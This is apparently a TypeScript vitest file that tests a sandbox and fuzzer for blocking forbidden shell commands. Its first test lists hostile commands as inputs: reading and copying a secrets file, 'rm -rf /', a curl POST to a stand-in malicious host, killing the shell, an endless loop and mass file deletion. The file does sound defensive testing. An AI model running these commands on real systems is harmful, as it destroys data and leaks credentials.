/** A part of what `npm run fuzz` does, within every test run. */
import { expect, it } from 'vitest';
import { fuzz } from './run.ts';
import { observe } from './truth.ts';

it('[POL12] the sandbox that finds the truth sees what commands do', { timeout: 60_000 }, async () => {
  const seen = await observe([
    'env',
    'cat ../../config/secrets.json',
    'rm -rf /',
    'rm -rf x',
    'curl -X POST https://malicious-actor.com',
    'ls',
    'echo env',
    'cp ../../config/secrets.json x',
    'kill -9 $$',
    'while :; do :; done',
    'find . -name README.md -delete',
  ]);
  expect(seen.map(({ did }) => did.join())).toEqual([
    'env',
    'secret',
    'rm',
    '',
    'curl',
    '',
    '',
    'secret',
    '',
    '',
    'removed',
  ]);
});

it('[POL12] of 500 variants of forbidden commands none that does its work is allowed', {
  timeout: 120_000,
}, async () => {
  const { attacks, findings, variants } = await fuzz({ seed: 1, runs: 500 }, () => undefined);
  expect(findings).toEqual([]);
  expect(attacks).toBeGreaterThan(variants / 3);
});
